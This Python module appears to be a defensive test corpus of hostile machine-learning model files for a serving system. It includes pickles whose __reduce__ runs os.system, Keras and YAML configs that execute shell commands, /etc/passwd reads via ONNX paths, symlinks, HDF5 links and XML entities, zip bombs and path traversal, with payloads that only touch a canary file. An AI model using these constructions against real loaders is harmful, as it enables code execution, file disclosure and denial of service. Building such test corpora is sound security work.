"""Files that want to do harm, of every kind that a model can be. Each would write the canary if any of its code ran."""

from __future__ import annotations

import io
import json
import os
import pickle
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import onnx
import torch
from onnx import TensorProto, helper

Corpus = dict[str, Callable[[Path, Path], None]]
"""By name: writes the files of one push into a folder; the second path is the canary."""

CORPUS: Corpus = {}


def hostile(make: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
    CORPUS[make.__name__] = make
    return make


class Evil:
    """Runs a command when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.canary}",)


def _pickle(canary: Path) -> bytes:
    return pickle.dumps(Evil(canary))


def _zip(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


# ── pickles ──────────────────────────────────────────────────────────────────────────────────────────────────────────


def _renamed(name: str) -> None:
    def make(folder: Path, canary: Path) -> None:
        (folder / name).write_bytes(_pickle(canary))

    CORPUS[f"pickle_called_{name.replace('.', '_')}"] = make


for _name in (
    "model.onnx", "model.keras", "model.h5", "model.pt", "model.pt2", "model.safetensors", "model.tflite", "model.xml",
    "booster.json", "booster.txt", "model.skops", "saved_model.pb", "tokenizer.json",
):  # fmt: skip
    _renamed(_name)


@hostile
def pickle_before_a_zip(folder: Path, canary: Path) -> None:
    inside = io.BytesIO()
    with zipfile.ZipFile(inside, "w") as archive:
        archive.writestr("config.json", "{}")
    (folder / "model.keras").write_bytes(_pickle(canary) + inside.getvalue())


@hostile
def pickle_after_a_zip(folder: Path, canary: Path) -> None:
    _zip(folder / "model.keras", {"config.json": b"{}", "metadata.json": b"{}"})
    with (folder / "model.keras").open("ab") as file:
        file.write(_pickle(canary))


class Module(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + 1


@hostile
def torch_save_of_an_object(folder: Path, canary: Path) -> None:
    torch.save({"model": Evil(canary)}, folder / "model.pt")


@hostile
def torch_save_in_the_old_way(folder: Path, canary: Path) -> None:
    torch.save({"model": Evil(canary)}, folder / "model.pth", _use_new_zipfile_serialization=False)


def _torchscript(path: Path) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.trace(Module(), torch.ones(1, 4)), path)


def _rewritten(path: Path, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {name: change(name, archive.read(name)) for name in archive.namelist()}
    _zip(path, members | (more or {}))


@hostile
def torchscript_with_a_pickle_of_python(folder: Path, canary: Path) -> None:
    path = folder / "model.pt"
    _torchscript(path)
    _rewritten(path, lambda name, data: _pickle(canary) if name.endswith("data.pkl") else data)


@hostile
def torchscript_with_one_more_pickle(folder: Path, canary: Path) -> None:
    path = folder / "model.pt"
    _torchscript(path)
    with zipfile.ZipFile(path) as archive:
        root = archive.namelist()[0].partition("/")[0]
    _rewritten(path, lambda name, data: data, {f"{root}/extra.pkl": _pickle(canary)})


@hostile
def torchscript_that_reads_files(folder: Path, canary: Path) -> None:
    path = folder / "model.pt"
    _torchscript(path)
    read = b'torch.from_file("/etc/passwd", False, 4, dtype=0)'
    _rewritten(
        path, lambda name, data: data.replace(b"torch.add(x,", b"torch.add(" + read + b",") if name.endswith(".py") else data
    )


@hostile
def exported_program_with_a_pickle(folder: Path, canary: Path) -> None:
    path = folder / "model.pt2"
    torch.export.save(torch.export.export(Module(), (torch.ones(2, 4),)), path)
    evil = _pickle(canary)
    _rewritten(path, lambda name, data: evil if "sample_inputs" in name or name.endswith(".pt") else data)


@hostile
def exported_program_with_one_more_pickle(folder: Path, canary: Path) -> None:
    path = folder / "model.pt2"
    torch.export.save(torch.export.export(Module(), (torch.ones(2, 4),)), path)
    with zipfile.ZipFile(path) as archive:
        root = archive.namelist()[0].partition("/")[0]
    _rewritten(path, lambda name, data: data, {f"{root}/data/constants/evil": _pickle(canary)})


# ── Keras ────────────────────────────────────────────────────────────────────────────────────────────────────────────


def _keras_config(layer: dict[str, Any]) -> dict[str, Any]:
    first = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "in"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [first, layer], "trainable": True},
        "registered_name": None,
    }


def _keras_layers(canary: Path) -> dict[str, dict[str, Any]]:
    code = f"__import__('os').system('touch {canary}')"
    marshalled = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return {
        "a_lambda": {
            "module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": marshalled},
            "registered_name": None,
        },
        "a_function_of_os": {
            "module": "os", "class_name": "system", "config": {"command": f"touch {canary}"}, "registered_name": None,
        },
        "a_torch_module": {
            "module": "keras.layers", "class_name": "TorchModuleWrapper",
            "config": {"name": "t", "module": {"class_name": "__bytes__", "config": {"value": _pickle(canary).hex()}}},
            "registered_name": None,
        },
        "a_foreign_class": {
            "module": "evil", "class_name": "Layer", "config": {"name": "e"}, "registered_name": "evil>Layer",
        },
    }  # fmt: skip


def _keras_files(what: str) -> None:
    def as_zip(folder: Path, canary: Path) -> None:
        config = _keras_config(_keras_layers(canary)[what])
        weights = io.BytesIO()
        h5py.File(weights, "w").close()
        metadata = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}
        members = {"config.json": json.dumps(config).encode(), "metadata.json": json.dumps(metadata).encode()}
        _zip(folder / "model.keras", members | {"model.weights.h5": weights.getvalue()})

    def as_hdf5(folder: Path, canary: Path) -> None:
        with h5py.File(folder / "model.h5", "w") as file:
            file.attrs["model_config"] = json.dumps(_keras_config(_keras_layers(canary)[what]))
            file.attrs["keras_version"] = "3.15.1"
            file.attrs["backend"] = "torch"
            file.create_group("model_weights")

    CORPUS[f"keras_with_{what}"] = as_zip
    CORPUS[f"hdf5_with_{what}"] = as_hdf5


for _what in _keras_layers(Path("x")):
    _keras_files(_what)


@hostile
def hdf5_that_points_elsewhere(folder: Path, canary: Path) -> None:
    with h5py.File(folder / "model.h5", "w") as file:
        file.attrs["model_config"] = json.dumps(_keras_config(_keras_layers(canary)["a_foreign_class"]))
        file["model_weights"] = h5py.ExternalLink("/etc/passwd", "/")


# ── Hugging Face ─────────────────────────────────────────────────────────────────────────────────────────────────────

_BERT = {
    "architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8, "num_hidden_layers": 1, "num_attention_heads": 2,
    "intermediate_size": 8, "vocab_size": 16, "max_position_embeddings": 16, "type_vocab_size": 2,
}  # fmt: skip


def _safetensors(path: Path, header: bytes, data: bytes = b"\0" * 64, length: int | None = None) -> None:
    path.write_bytes(struct.pack("<Q", len(header) if length is None else length) + header + data)


def _encoder(folder: Path, config: dict[str, Any]) -> None:
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "tokenizer.json").write_text(json.dumps({"version": "1.0", "model": {"type": "WordLevel", "vocab": {"a": 0}}}))
    _safetensors(folder / "model.safetensors", b'{"w":{"dtype":"F32","shape":[16],"data_offsets":[0,64]}}')


@hostile
def encoder_with_code_of_its_own(folder: Path, canary: Path) -> None:
    _encoder(folder, _BERT | {"model_type": "evil", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}})
    (folder / "modeling_evil.py").write_text(f"open({str(canary)!r}, 'w')\n")


@hostile
def encoder_whose_tokenizer_has_code(folder: Path, canary: Path) -> None:
    _encoder(folder, _BERT)
    (folder / "tokenizer_config.json").write_text(json.dumps({"auto_map": {"AutoTokenizer": ["evil.Tokenizer", None]}}))
    (folder / "evil.py").write_text(f"open({str(canary)!r}, 'w')\n")


@hostile
def encoder_with_pickled_weights(folder: Path, canary: Path) -> None:
    _encoder(folder, _BERT)
    (folder / "model.safetensors").unlink()
    (folder / "pytorch_model.bin").write_bytes(_pickle(canary))


def _lying(name: str, header: bytes, length: int | None = None) -> None:
    def make(folder: Path, canary: Path) -> None:
        _encoder(folder, _BERT)
        _safetensors(folder / "model.safetensors", header, length=length)

    CORPUS[f"safetensors_{name}"] = make


_lying("whose_header_is_endless", b"{}", length=2**62)
_lying("whose_header_is_longer_than_the_file", b"{}", length=4096)
_lying("beyond_its_end", b'{"w":{"dtype":"F32","shape":[1048576],"data_offsets":[0,4194304]}}')
_lying(
    "that_overlap",
    b'{"a":{"dtype":"F32","shape":[16],"data_offsets":[0,64]},"b":{"dtype":"F32","shape":[8],"data_offsets":[32,64]}}',
)
_lying("of_another_size", b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,64]}}')
_lying("of_a_giant_shape", b'{"w":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,64]}}')
_lying("before_the_start", b'{"w":{"dtype":"F32","shape":[16],"data_offsets":[-64,0]}}')
_lying("nested_without_end", b"[" * 200_000)


# ── ONNX, OpenVINO, TensorFlow ───────────────────────────────────────────────────────────────────────────────────────


def _onnx(folder: Path, location: str) -> None:
    weights = onnx.numpy_helper.from_array(np.ones((4, 4), np.float32), "w")
    weights.ClearField("raw_data")
    weights.data_location = TensorProto.EXTERNAL
    weights.external_data.add(key="location", value=location)
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 4])],
        [weights],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=10)
    (folder / "model.onnx").write_bytes(model.SerializeToString())


@hostile
def onnx_whose_data_lies_above(folder: Path, canary: Path) -> None:
    _onnx(folder, "../../../../../../../../etc/passwd")


@hostile
def onnx_whose_data_is_absolute(folder: Path, canary: Path) -> None:
    _onnx(folder, "/etc/passwd")


@hostile
def onnx_with_a_library_of_its_own(folder: Path, canary: Path) -> None:
    graph = helper.make_graph(
        [helper.make_node("Evil", ["x"], ["y"], domain="evil")],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 4])],
    )
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("evil", 1)]
    (folder / "model.onnx").write_bytes(helper.make_model(graph, opset_imports=opsets, ir_version=10).SerializeToString())


@hostile
def openvino_with_entities(folder: Path, canary: Path) -> None:
    entities = '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    (folder / "model.xml").write_text(f'<?xml version="1.0"?>{entities}<net name="&x;" version="11"><layers/><edges/></net>')
    (folder / "model.bin").write_bytes(b"\0" * 64)


@hostile
def openvino_that_grows(folder: Path, canary: Path) -> None:
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    text = (
        f'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY l0 "lol">{lol}]><net name="&l11;" version="11"><layers/><edges/></net>'
    )
    (folder / "model.xml").write_text(text)
    (folder / "model.bin").write_bytes(b"\0" * 64)


def _field(number: int, data: bytes) -> bytes:
    return bytes([number << 3 | 2]) + _varint(len(data)) + data


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def _saved_model(folder: Path, operator: str) -> None:
    node = _field(1, b"node") + _field(2, operator.encode())
    meta = _field(1, _field(4, b"serve")) + _field(2, _field(1, node))
    (folder / "saved_model.pb").write_bytes(b"\x08\x01" + _field(2, meta))
    (folder / "variables").mkdir()
    (folder / "variables" / "variables.index").write_bytes(b"")


for _operator in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc"):
    CORPUS[f"saved_model_with_{_operator}"] = lambda folder, canary, operator=_operator: _saved_model(folder, operator)


@hostile
def tflite_with_offsets_into_nowhere(folder: Path, canary: Path) -> None:
    (folder / "model.tflite").write_bytes(struct.pack("<I4s", 0x7FFFFFF0, b"TFL3") + b"\xff" * 256)


# ── trees ────────────────────────────────────────────────────────────────────────────────────────────────────────────


@hostile
def booster_with_a_circle(folder: Path, canary: Path) -> None:
    import xgboost

    data = np.random.default_rng(7).standard_normal((40, 3))
    model = xgboost.XGBClassifier(n_estimators=2, max_depth=2).fit(data, (data[:, 0] > 0).astype(int))
    path = folder / "booster.json"
    model.get_booster().save_model(path)
    told = json.loads(path.read_text())
    for tree in told["learner"]["gradient_booster"]["model"]["trees"]:
        tree["left_children"] = [0 for _ in tree["left_children"]]
        tree["right_children"] = [0 for _ in tree["right_children"]]
    path.write_text(json.dumps(told))


@hostile
def booster_that_points_far_away(folder: Path, canary: Path) -> None:
    import lightgbm

    data = np.random.default_rng(7).standard_normal((200, 3))
    training = lightgbm.Dataset(data, (data[:, 0] > 0).astype(int))
    booster = lightgbm.train({"objective": "binary", "verbose": -1, "num_leaves": 4}, training, num_boost_round=2)
    text = booster.model_to_string()
    lines = [f"left_child={' '.join(['900000'] * (line.count(' ') + 1))}" if line.startswith("left_child=") else line
             for line in text.splitlines()]  # fmt: skip
    (folder / "booster.txt").write_text("\n".join(lines))


# ── archives and bombs ───────────────────────────────────────────────────────────────────────────────────────────────


@hostile
def zip_with_a_link(folder: Path, canary: Path) -> None:
    with zipfile.ZipFile(folder / "model.keras", "w") as archive:
        link = zipfile.ZipInfo("config.json")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("metadata.json", "{}")
        archive.writestr("model.weights.h5", "")


@hostile
def zip_that_climbs(folder: Path, canary: Path) -> None:
    _zip(folder / "model.keras", {"config.json": b"{}", "metadata.json": b"{}", f"../../../../../../../..{canary}": b"x"})


def bomb(path: Path, member: str, size: int) -> None:
    """A zip whose one member has `size` zero bytes when it is unpacked; its parts are the same deflated block over and over."""
    piece = 64 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b"\0" * piece) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.flush(zlib.Z_FINISH)
    count = size // piece
    packed = len(block) * count + len(last)
    crc, name = 0, member.encode()
    for _ in range(min(count, 2)):
        crc = zlib.crc32(b"\0" * piece, crc)
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), 20)
    large = struct.pack("<HHQQ", 1, 16, piece * count, packed)
    with path.open("wb") as file:
        file.write(head + name + large)
        for _ in range(count):
            file.write(block)
        file.write(last)
        start = file.tell()
        central = struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), 20, 0, 0, 0, 0, 0
        )
        file.write(central + name + large)
        file.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central) + len(name) + len(large), start, 0))


for _member, _file in (
    ("config.json", "model.keras"), ("schema.json", "model.skops"), ("archive/data.pkl", "model.pt"),
    ("archive/models/model.json", "model.pt2"), ("x.npy", "model.npz"),
):  # fmt: skip
    CORPUS[f"bomb_as_{_file.replace('.', '_')}"] = lambda folder, canary, file=_file, member=_member: bomb(
        folder / file, member, 10 << 30
    )


@hostile
def yaml_that_grows(folder: Path, canary: Path) -> None:
    _onnx(folder, "weights")
    (folder / "weights").write_bytes(b"\0" * 64)
    anchors = "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12))
    (folder / "openmaas.yaml").write_text(f"a0: &a0 [x]\n{anchors}\n")


@hostile
def yaml_that_calls(folder: Path, canary: Path) -> None:
    _onnx(folder, "weights")
    (folder / "weights").write_bytes(b"\0" * 64)
    (folder / "openmaas.yaml").write_text(f"card: !!python/object/apply:os.system ['touch {canary}']\n")


@hostile
def function_that_nobody_approved(folder: Path, canary: Path) -> None:
    (folder / "model.py").write_text(f"open({str(canary)!r}, 'w')\ndef predict(inputs):\n    return inputs\n")
    (folder / "openmaas.yaml").write_text(
        "format: function\nentry: model.py\nsignature:\n"
        "  inputs: [{name: x, datatype: FP32, shape: [-1, 4]}]\n  outputs: [{name: x, datatype: FP32, shape: [-1, 4]}]\n"
    )


@hostile
def nothing_but_noise(folder: Path, canary: Path) -> None:
    (folder / "model.onnx").write_bytes(np.random.default_rng(7).bytes(65536))
